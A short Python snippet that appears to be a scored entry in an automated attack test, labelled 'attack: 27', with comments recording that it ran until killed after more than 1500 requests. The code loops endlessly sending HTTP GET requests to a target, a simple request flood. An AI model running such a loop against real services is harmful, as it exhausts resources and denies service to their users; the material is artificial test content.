# attack: 27
# does: works, then asks for one thing after the other, without end
# run: killed
# earns: 10
# says: more than 1500 requests
# with: work
# with: http
work()
import http.client

while True:
    one = http.client.HTTPConnection(*PLACE)
    for _ in range(100):
        one.request("GET", f"/{given.bucket}")
        one.getresponse().read()
